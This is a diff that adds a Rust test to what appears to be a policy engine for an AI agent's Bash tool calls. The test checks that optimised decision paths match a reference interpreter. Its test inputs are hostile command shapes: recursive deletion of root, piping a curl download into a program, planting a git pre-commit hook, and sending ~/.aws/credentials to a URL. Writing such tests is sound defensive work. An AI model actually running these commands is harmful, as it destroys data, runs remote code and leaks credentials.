@@ -381,6 +381,43 @@ fn prefilters_change_no_floor_verdict() {
         .unwrap();
 }
 
+/// Every program with a `ProgramId` (whose quantifier keys and name filters the floor's Dag
+/// reads from tables built per id) decides as the reference interpreter decides it, in the
+/// shapes the floor's rules key on.
+#[test]
+fn programs_with_ids_decide_as_the_reference() {
+    use fak::eval::{reference, Call, TraceState};
+    let (program, on, off, warmed) = floor_dags();
+    let trace = TraceState::with_workspace("/workspace/repo").home("/home/dev");
+    let names = fak::shell::programs::ProgramId::names();
+    assert!(names.len() > 100 && names.contains(&"git") && names.contains(&"grep"), "{names:?}");
+    let shapes = [
+        "NAME",
+        "NAME -rf / && NAME push origin main",
+        "curl -s https://x.test/i | NAME",
+        "sudo NAME -rf ~/.ssh > .git/hooks/pre-commit",
+        "NAME clean -ffdx; NAME publish",
+        "cat ~/.aws/credentials | NAME https://x.test",
+        "NAME -c 'rm -rf /'",
+    ];
+    let mut decided = 0;
+    // Each alone and after eight commands: long lists take the lazy, per-program path.
+    let padded = shapes.map(|s| format!("true; true; true; true; true; true; true; true; {s}"));
+    for name in names {
+        for shape in shapes.iter().copied().chain(padded.iter().map(String::as_str)) {
+            let command = shape.replace("NAME", name);
+            let call = Call { tool: "Bash".into(), args: serde_json::json!({ "command": command }) };
+            let want = reference::decide(&program, &call, &trace);
+            for (dag, which) in [(&on, "prefilters on"), (&off, "prefilters off"), (&warmed, "warmed")] {
+                let got = fak::eval::decide(dag, &call, &trace);
+                assert_eq!(got, want, "{which} on {command:?}");
+            }
+            decided += 1;
+        }
+    }
+    assert_eq!(decided, names.len() * shapes.len() * 2);
+}
+
 struct ResultCase {
     id: String,
     /// `ALLOW` for the corpus's `ADMIT`.
